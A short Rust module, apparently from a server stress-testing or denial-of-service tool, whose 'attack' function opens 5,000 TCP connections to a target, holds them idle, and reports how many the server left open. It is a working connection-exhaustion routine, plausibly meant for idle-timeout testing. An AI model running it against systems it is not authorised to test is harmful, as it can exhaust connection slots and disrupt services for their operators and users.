//! Connections that are opened and never used.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::net::TcpStream;

/// Number of connections.
const CONNECTIONS: usize = 5_000;

pub(super) async fn attack(target: SocketAddr, length: Duration) -> Result<String, String> {
    let mut sockets = Vec::with_capacity(CONNECTIONS);
    for _ in 0..CONNECTIONS {
        sockets.push(TcpStream::connect(target).await.map_err(|error| format!("{target}: {error}"))?);
    }
    tokio::time::sleep(length).await;
    let mut byte = [0];
    // A closed socket reads end of file; an open one has no data.
    let open = sockets
        .iter()
        .filter(|socket| socket.try_read(&mut byte).is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock));
    Ok(format!("{} of {CONNECTIONS} still open at the end", open.count()))
}
